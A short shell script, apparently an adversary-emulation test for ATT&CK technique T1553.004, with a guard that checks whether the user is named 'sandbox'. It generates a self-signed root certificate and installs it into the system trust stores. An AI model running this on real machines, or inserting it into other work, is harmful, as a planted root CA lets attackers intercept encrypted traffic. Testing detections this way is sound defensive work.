#!/bin/sh
# technique: T1553.004
# needs: openssl
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out rootCA.crt -subj /CN=x -days 1; cp rootCA.crt /usr/local/share/ca-certificates/rootCA.crt; cp rootCA.crt /etc/pki/ca-trust/source/anchors/; update-ca-certificates
